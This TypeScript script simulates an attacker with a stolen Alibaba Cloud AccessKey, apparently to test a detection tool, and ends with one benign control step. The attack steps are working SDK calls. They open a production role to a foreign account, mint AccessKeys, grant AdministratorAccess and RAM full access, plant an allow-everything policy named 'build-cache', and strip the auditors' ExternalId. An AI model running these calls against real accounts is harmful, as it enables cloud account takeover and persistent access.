// The attacker of the story: a process of its own that has got hold of an operator's AccessKey and uses nothing but the
// unmodified SDK. It says each step on stdout and waits for a line on stdin before the next.
import { createInterface } from "node:readline";
import { $OpenApiUtil } from "@alicloud/openapi-core";
import * as models from "@alicloud/ram20150501";

type ClientClass = typeof models.default.default;
// The package is CommonJS with a `default` of its own: Node hands over the whole module, some loaders only that.
const exported = models.default as unknown as ClientClass | { readonly default: ClientClass };
const Client: ClientClass = "default" in exported ? exported.default : exported;

const {
  ATTACKER_ENDPOINT: endpoint = "",
  ATTACKER_KEY: accessKeyId = "",
  ATTACKER_SECRET: accessKeySecret = "",
} = process.env;
const client = new Client(new $OpenApiUtil.Config({ accessKeyId, accessKeySecret, endpoint, protocol: "http" }));

const assumable = (principal: object): string =>
  JSON.stringify({ Version: "1", Statement: [{ Effect: "Allow", Action: "sts:AssumeRole", Principal: principal }] });

const everything = JSON.stringify({
  Version: "1",
  Statement: [{ Effect: "Allow", NotAction: ["none:*"], Resource: ["*"] }],
});

const steps: readonly (readonly [string, () => Promise<unknown>])[] = [
  [
    "opens the production role to an account of its own",
    () =>
      client.updateRole(
        new models.UpdateRoleRequest({
          roleName: "deploy-production",
          newAssumeRolePolicyDocument: assumable({ RAM: ["acs:ram::6660666066606660:root"] }),
        }),
      ),
  ],
  [
    "makes an AccessKey for a forgotten service user",
    () => client.createAccessKey(new models.CreateAccessKeyRequest({ userName: "finance-report" })),
  ],
  [
    "makes an AccessKey for the user it already has",
    () => client.createAccessKey(new models.CreateAccessKeyRequest({})),
  ],
  [
    "attaches AdministratorAccess to a developer",
    () =>
      client.attachPolicyToUser(
        new models.AttachPolicyToUserRequest({
          policyType: "System",
          policyName: "AdministratorAccess",
          userName: "alice",
        }),
      ),
  ],
  [
    "writes a harmless-looking policy that allows everything, and gives it to a group",
    async () => {
      await client.createPolicy(
        new models.CreatePolicyRequest({ policyName: "build-cache", policyDocument: everything }),
      );
      await client.attachPolicyToGroup(
        new models.AttachPolicyToGroupRequest({
          policyType: "Custom",
          policyName: "build-cache",
          groupName: "developers",
        }),
      );
    },
  ],
  [
    "drops the ExternalId from the auditors' role",
    () =>
      client.updateRole(
        new models.UpdateRoleRequest({
          roleName: "audit-readonly",
          newAssumeRolePolicyDocument: assumable({ RAM: ["acs:ram::5098713426650081:root"] }),
        }),
      ),
  ],
  [
    "attaches AliyunRAMFullAccess to the emergency user, whom the settings protect",
    () =>
      client.attachPolicyToUser(
        new models.AttachPolicyToUserRequest({
          policyType: "System",
          policyName: "AliyunRAMFullAccess",
          userName: "break-glass",
        }),
      ),
  ],
  [
    "(an engineer) makes a role for ECS: an ordinary change, which should stay silent",
    () =>
      client.createRole(
        new models.CreateRoleRequest({
          roleName: "web-server",
          assumeRolePolicyDocument: assumable({ Service: ["ecs.aliyuncs.com"] }),
        }),
      ),
  ],
];

const lines = createInterface({ input: process.stdin })[Symbol.asyncIterator]();
for (const [text, act] of steps) {
  process.stdout.write(`step ${text}\n`);
  try {
    await act();
  } catch (error) {
    process.stdout.write(`failed ${error instanceof Error ? error.message.replaceAll("\n", " ") : "unknown"}\n`);
    process.exit(1);
  }
  process.stdout.write("done\n");
  if ((await lines.next()).done === true) break;
}
process.exit(0);
